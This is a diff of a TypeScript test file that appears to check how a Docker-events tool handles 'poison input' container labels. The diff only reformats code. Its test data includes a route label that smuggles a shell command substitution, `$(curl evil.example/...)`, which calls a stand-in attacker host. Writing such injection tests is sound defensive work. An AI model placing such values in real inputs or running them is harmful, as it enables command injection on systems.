@@ -26,7 +26,9 @@ describe("poison input", () => {
       { name: longName, labels: { "docker-events.address": "add 192.0.2.128/32 dev lo" } },
     ];
     const [parts200, huge, unicode, long] = await Promise.all(
-      specs.map(async (spec) => startContainer(await createContainer(t.docker, t.cleanup, { ...spec, image: t.image, labels: { ...t.runLabels, ...spec.labels } }))),
+      specs.map(async (spec) =>
+        startContainer(await createContainer(t.docker, t.cleanup, { ...spec, image: t.image, labels: { ...t.runLabels, ...spec.labels } })),
+      ),
     );
     if (parts200 === undefined || huge === undefined || unicode === undefined || long === undefined) throw new Error("containers missing");
 
@@ -55,7 +57,11 @@ describe("poison input", () => {
       t.docker,
       t.cleanup,
       500,
-      (i) => ({ name: `${prefix}-${i}`, image: t.image, labels: { ...t.runLabels, "docker-events.route": `add 10.${i % 250}.0.0/16 via $(curl evil.example/${i})` } }),
+      (i) => ({
+        name: `${prefix}-${i}`,
+        image: t.image,
+        labels: { ...t.runLabels, "docker-events.route": `add 10.${i % 250}.0.0/16 via $(curl evil.example/${i})` },
+      }),
       10,
     );
     const good = await startContainer(
